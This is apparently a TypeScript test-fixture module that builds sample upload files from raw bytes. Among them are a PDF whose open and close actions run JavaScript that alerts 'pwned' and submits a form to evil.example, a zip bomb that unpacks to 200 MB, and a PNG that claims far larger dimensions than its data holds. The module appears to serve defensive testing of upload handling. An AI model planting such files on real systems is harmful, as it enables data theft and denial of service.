import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { ROOT } from './places.ts'

/** Files made from their bytes: small, and each what its test needs it to be. */
export async function writeSample(folder: string, name: string, bytes: Buffer): Promise<string> {
  const path = join(folder, name)
  await writeFile(path, bytes)
  return path
}

/** A picture of one colour. */
export function pngOf(width: number, height: number, [red, green, blue]: [number, number, number]): Buffer {
  const line = Buffer.concat([
    Buffer.of(0),
    Buffer.from(Array<number[]>(width).fill([red, green, blue]).flat()),
  ])
  return png(width, height, Buffer.concat(Array<Buffer>(height).fill(line)))
}

/** A picture that says it is this large and has no more than a line: whoever makes room for it has lost. */
export function hollowPng(width: number, height: number): Buffer {
  return png(width, height, Buffer.alloc(1 + width * 3))
}

function png(width: number, height: number, lines: Buffer): Buffer {
  const size = Buffer.alloc(13)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  size.set([8, 2, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', size),
    chunk('IDAT', deflateSync(lines)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const whole = Buffer.alloc(body.length + 8)
  whole.writeUInt32BE(data.length, 0)
  body.copy(whole, 4)
  whole.writeUInt32BE(crc32(body), body.length + 4)
  return whole
}

/** A film that plays, as large as is wanted: behind the demo's own stands room that players pass over. */
export async function filmOf(sizeBytes: number): Promise<Buffer> {
  const film = await readFile(join(ROOT, 'server/demo/assets/walk-through.mp4'))
  const room = Buffer.alloc(sizeBytes - film.length)
  room.writeUInt32BE(room.length, 0)
  room.write('free', 4)
  return Buffer.concat([film, room])
}

/** Two seconds of a quiet tone. */
export function wav(): Buffer {
  const rate = 8000
  const samples = Buffer.alloc(rate * 2)
  for (let at = 0; at < samples.length; at += 1) samples[at] = 128 + Math.round(20 * Math.sin(at / 3))
  const head = Buffer.alloc(44)
  head.write('RIFF', 0)
  head.writeUInt32LE(36 + samples.length, 4)
  head.write('WAVEfmt ', 8)
  head.writeUInt32LE(16, 16)
  head.writeUInt16LE(1, 20)
  head.writeUInt16LE(1, 22)
  head.writeUInt32LE(rate, 24)
  head.writeUInt32LE(rate, 28)
  head.writeUInt16LE(1, 32)
  head.writeUInt16LE(8, 34)
  head.write('data', 36)
  head.writeUInt32LE(samples.length, 40)
  return Buffer.concat([head, samples])
}

/** A one-page PDF that wants to run a script as soon as it is opened, and one at a click. */
export function scriptedPdf(): Buffer {
  const script = `<< /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("https://evil.example"\\);) >>`
  return Buffer.from(
    [
      '%PDF-1.5',
      `1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> >> endobj`,
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >> endobj',
      '4 0 obj << /Length 34 >> stream\n0 0 0 rg 40 40 120 120 re f       \nendstream endobj',
      'trailer << /Root 1 0 R /Size 5 >>',
      '%%EOF',
    ].join('\n'),
  )
}

/** An archive of a few kilobytes that unpacks to 200 MB of nothing. */
export function zipBomb(): Buffer {
  const size = 200_000_000
  const packed = deflateRawSync(Buffer.alloc(size), { level: 9 })
  const name = Buffer.from('bomb.bin')
  const facts = Buffer.alloc(26)
  facts.writeUInt16LE(20, 0)
  facts.writeUInt16LE(8, 4)
  facts.writeUInt32LE(packed.length, 14)
  facts.writeUInt32LE(size, 18)
  facts.writeUInt16LE(name.length, 22)
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, name, packed])
  const central = Buffer.alloc(42)
  central.writeUInt16LE(20, 0)
  facts.copy(central, 2)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(1, 4)
  end.writeUInt16LE(1, 6)
  end.writeUInt32LE(46 + name.length, 8)
  end.writeUInt32LE(local.length, 12)
  return Buffer.concat([
    local,
    Buffer.from('PK\x01\x02', 'latin1'),
    central,
    name,
    Buffer.from('PK\x05\x06', 'latin1'),
    end,
  ])
}
